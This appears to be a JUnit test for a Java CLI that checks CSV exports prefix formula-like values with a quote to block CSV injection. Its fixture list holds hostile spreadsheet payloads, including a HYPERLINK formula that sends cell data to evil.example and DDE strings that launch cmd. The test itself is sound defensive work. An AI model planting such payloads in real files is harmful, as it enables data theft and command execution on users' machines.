package io.leadpipe.cli;

import io.leadpipe.testing.FakeApi;
import io.leadpipe.testing.TestWorkspace;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV injection (OWASP "CSV Injection"): an API's values that a spreadsheet would run as formulas are
 * exported with a single quote before them; leadpipe.export.csv.neutralise-formulas = false keeps them raw
 * for machine readers. JSON Lines is never changed.
 */
class CsvFormulaTest {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1-555-0100", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    static String page() {
        StringBuilder b = new StringBuilder("{\"data\":[");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String v = HOSTILE.get(i).replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r");
            b.append(i == 0 ? "" : ",").append("{\"id\":\"H").append(i).append("\",\"name\":\"").append(v).append("\",\"phone\":\"555 0100\"}");
        }
        return b.append("],\"meta\":{\"next_cursor\":null,\"total\":").append(HOSTILE.size()).append("}}").toString();
    }

    static List<Map<String, String>> rows(String csv) throws Exception {
        CsvMapper mapper = new CsvMapper();
        try (MappingIterator<Map<String, String>> it = mapper.readerFor(Map.class).with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return it.readAll();
        }
    }

    @Test
    void formulaCellsAreNeutralisedUnlessTurnedOff() throws Exception {
        try (TestWorkspace ws = new TestWorkspace(); FakeApi api = new FakeApi((ex, n) -> FakeApi.send(ex, 200, "application/json", page())).serve(ws)) {
            TestWorkspace.CliResult run = ws.cli(TestWorkspace.envWithKey(), "run");
            assertThat(run.exitCode()).as(run.out() + run.err()).isZero();

            TestWorkspace.CliResult csv = ws.cli(Map.of(), "export", "--format", "csv");
            assertThat(csv.exitCode()).as(csv.err()).isZero();
            List<Map<String, String>> safe = rows(csv.out());
            assertThat(safe).hasSize(HOSTILE.size());
            for (Map<String, String> row : safe) {
                String original = HOSTILE.get(Integer.parseInt(row.get("id").substring(1)));
                assertThat(row.get("name")).as("a formula cell starts with a quote: " + original).isEqualTo("'" + original);
                assertThat(row.get("phone")).as("ordinary cells unchanged").isEqualTo("555 0100");
            }

            ws.settings.put("leadpipe.export.csv.neutralise-formulas", "false");
            TestWorkspace.CliResult raw = ws.cli(Map.of(), "export", "--format", "csv");
            assertThat(raw.exitCode()).as(raw.err()).isZero();
            for (Map<String, String> row : rows(raw.out())) {
                assertThat(row.get("name")).as("turned off: as the API sent it").isEqualTo(HOSTILE.get(Integer.parseInt(row.get("id").substring(1))));
            }
            TestWorkspace.CliResult jsonl = ws.cli(Map.of(), "export");
            assertThat(jsonl.out()).as("JSON Lines unchanged").contains("\"name\":\"=HYPERLINK(").doesNotContain("'=");
        }
    }
}
